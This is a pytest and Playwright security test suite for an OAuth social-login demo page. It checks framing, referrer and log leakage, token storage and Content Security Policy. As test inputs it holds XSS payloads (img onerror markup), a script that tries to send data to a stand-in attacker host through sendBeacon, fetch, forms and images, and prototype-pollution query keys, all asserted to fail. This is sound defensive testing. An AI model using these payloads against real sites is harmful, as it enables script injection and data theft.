"""X: what the page loads, shows, stores and reveals to others."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from harness.leaks import Leaks
from harness.pages import LoginPage
from harness.running import Demo
from harness.stage import wait_until

Serve = Callable[[str], str]

CALLBACK = "popup/callback-github.html"
SIGNED_IN = "Signed in as Ada Lovelace"
VIEWS = {
    "Session": "Session",
    "Token": "TokenUser",
    "JWT": "JWTPairUser",
    "JWT cookie": "JWTCookie",
}


@pytest.mark.expects_console("frame-ancestors|X-Frame-Options|Cross-Origin-Opener-Policy")
@pytest.mark.parametrize("path", ["", CALLBACK + "?code=x&state=x", "api/me/", "api/docs/"])
def test_X05_X17_no_page_can_be_framed(page: Page, demo: Demo, evil: Serve, path: str) -> None:
    page.goto(evil(f"<iframe src='{demo.origin}/{path}'></iframe>"))

    framed = page.frames[1]
    framed.wait_for_load_state()
    assert demo.origin not in framed.url
    assert framed.get_by_role("button").count() == 0


def test_X06_no_request_sends_a_referrer(login: LoginPage, asked: list[Request]) -> None:
    login.begin("GitHub").allow()
    expect(login.status).to_have_text(SIGNED_IN)

    senders = {each.headers.get("referer") for each in asked if "callback" not in each.url}
    assert not [each for each in senders if each and ("code=" in each or "state=" in each)]
    callback = next(each for each in asked if CALLBACK in each.url)
    later = asked[asked.index(callback) + 1 :]
    assert later
    assert not any(each.headers.get("referer") for each in later)


def test_X07_no_code_is_left_in_the_history(page: Page) -> None:
    page.clock.install()
    page.goto(f"/{CALLBACK}?code=canary&state=x")
    page.clock.run_for(3000)  # as long as it waits for the page that began
    expect(page.get_by_role("status")).to_contain_text("No page is waiting")
    assert "canary" not in page.url

    page.goto("about:blank")
    page.go_back()

    assert "canary" not in page.url


@pytest.mark.parametrize("way", VIEWS)
def test_X08_no_code_state_or_token_is_in_the_server_log(
    login: LoginPage, asked: list[Request], demo: Demo, leaks: Leaks, way: str
) -> None:
    login.choose(way)
    login.begin("GitHub").allow()
    expect(login.status).to_have_text(SIGNED_IN)

    callback = next(each.url for each in asked if CALLBACK in each.url and "code=" in each.url)
    secrets = {value for (value,) in parse_qs(urlsplit(callback).query).values()}
    assert secrets <= leaks.secrets
    logged = f"Social{VIEWS[way]}AuthView provider=github status=200"
    wait_until(lambda: logged in demo.log)
    assert leaks.found_in(demo) == []


def test_X08_a_secret_in_the_log_is_found(demo: Demo, leaks: Leaks) -> None:
    leaks.secrets.add("a-canary-in-the-log")
    demo.lines.append("api.1 | something logged ?code=a%2Dcanary-in-the-log")

    assert leaks.found_in(demo) == [demo.lines.pop()]
    leaks.secrets.remove("a-canary-in-the-log")


def test_X09_markup_in_a_name_is_shown_as_text(login: LoginPage) -> None:
    login.page.evaluate("window.alert = () => { window.attacked = true }; void 0")

    login.begin("GitHub").page.get_by_role("button", name="Mallory").click()

    expect(login.status).to_contain_text("Signed in as")
    expect(login.profile.first).to_contain_text("<")
    assert login.page.evaluate("window.attacked") is None
    assert login.page.locator("main script, main iframe, main [onerror]").count() == 0


def test_X09_text_from_a_provider_is_neither_our_message_nor_markup(
    login: LoginPage,
) -> None:
    consent = login.begin("GitHub")
    expect(consent.heading).to_be_visible()
    state = parse_qs(urlsplit(consent.page.url).query)["state"][0]
    markup = quote("<img src=x onerror='attacked = 1'>canary")

    consent.page.goto(f"/{CALLBACK}?error={markup}&error_description={markup}&state={state}")

    expect(login.problem).to_contain_text("reported an error")
    expect(login.problem).not_to_contain_text("canary")
    assert login.page.locator("[onerror]").count() == 0
    assert login.page.evaluate("window.attacked") is None


@pytest.mark.expects_console("Content Security Policy|violates the following")
@pytest.mark.parametrize("path", ["/", f"/{CALLBACK}"])
def test_X10_an_injected_script_can_send_nothing_to_other_hosts(
    page: Page, evil: Serve, path: str
) -> None:
    elsewhere = evil("")
    reached: list[str] = []
    page.context.on("requestfinished", lambda each: reached.append(each.url))
    page.goto(path)

    page.evaluate(
        """elsewhere => new Promise(done => {
          const wanted = new Set(['img-src', 'connect-src', 'form-action', 'frame-src', 'base-uri'])
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
            wanted.delete(effectiveDirective)
            if (!wanted.size) done()
          })
          const leak = elsewhere + '?leak'
          new Image().src = leak
          navigator.sendBeacon(leak, 'x')
          const form = Object.assign(document.createElement('form'), { action: leak })
          document.body.append(form)
          form.submit()
          const style = document.createElement('style')
          style.textContent = `body { background: url(${leak}) }`
          document.head.append(style)
          const frame = document.createElement('iframe')
          frame.src = leak
          document.body.append(frame)
          const base = Object.assign(document.createElement('base'), { href: elsewhere })
          document.head.prepend(base)
          fetch(leak, { mode: 'no-cors' }).catch(() => {})
        })""",
        elsewhere,
    )

    assert not [each for each in reached if each.startswith(elsewhere)]
    assert not page.evaluate("document.baseURI").startswith(elsewhere)


@pytest.mark.expects_console("Content Security Policy|TrustedHTML|TrustedScript|Trusted Type")
@pytest.mark.parametrize("path", ["/", f"/{CALLBACK}"])
def test_X10_an_injected_script_does_not_run(page: Page, path: str) -> None:
    page.goto(path)

    outcomes = page.evaluate(
        """async () => {
          const script = facts =>
            document.head.append(Object.assign(document.createElement('script'), facts))
          const attacks = [
            () => script({ textContent: 'attacked = 1' }),
            () => script({ src: 'data:,attacked=1' }),
            () => { document.body.innerHTML = '<img src=x onerror="attacked = 1">' },
            () => { document.body.setAttribute('onclick', 'attacked = 1'); document.body.click() },
          ]
          const outcomes = attacks.map(attack => {
            try { attack() } catch (error) { return error.name }
          })
          await new Promise(next => setTimeout(next))
          return outcomes
        }"""
    )

    assert page.evaluate("window.attacked") is None
    assert outcomes[:3] == ["TypeError"] * 3


def test_X11_prototype_keys_change_nothing(page: Page) -> None:
    query = "__proto__=canary&constructor=canary&__proto__[polluted]=1&state=x&code=x"
    page.clock.install()
    page.goto(f"/{CALLBACK}?{query}")
    page.clock.run_for(3000)  # as long as it waits for the page that began

    expect(page.get_by_role("status")).to_contain_text("No page is waiting")
    assert page.evaluate("({}).polluted") is None
    assert page.evaluate("typeof ({}).constructor") == "function"


def test_X14_no_service_worker_and_no_cache_serves_the_callback(
    safe_login: LoginPage, demo: Demo
) -> None:
    workers = "navigator.serviceWorker.getRegistrations().then(each => each.length)"

    assert safe_login.page.evaluate(workers) == 0
    response = safe_login.page.goto(f"{demo.local_origin}/{CALLBACK}")
    assert response
    assert "no-store" in response.headers["cache-control"]


def test_X15_nothing_is_loaded_from_another_host(
    login: LoginPage, asked: list[Request], demo: Demo
) -> None:
    login.page.reload()
    login.begin("GitHub").allow()
    expect(login.status).to_have_text(SIGNED_IN)

    hosts = {urlsplit(each.url).netloc for each in asked if each.url.startswith("http")}
    assert hosts == {urlsplit(demo.origin).netloc, urlsplit(demo.mocks).netloc}


def test_X16_the_page_is_isolated_from_sibling_domains(safe_login: LoginPage) -> None:
    assert safe_login.page.evaluate("window.originAgentCluster") is True


@pytest.mark.parametrize("way", ["Token", "JWT"])
def test_T14_tokens_are_kept_in_memory_only(login: LoginPage, way: str) -> None:
    login.choose(way)
    answers: list[dict[str, str]] = []
    login.page.on(
        "response",
        lambda each: (
            answers.append(each.json()) if f"/social/{way.lower()}_user/" in each.url else None
        ),
    )

    login.begin("GitHub").allow()
    expect(login.status).to_have_text(SIGNED_IN)

    kept = login.page.evaluate(
        "JSON.stringify([{ ...localStorage, ...sessionStorage }, document.cookie, location.href])"
    )
    secrets = [answers[0][name] for name in ("token", "refresh") if name in answers[0]]
    assert secrets
    assert not [secret for secret in secrets if secret in kept]
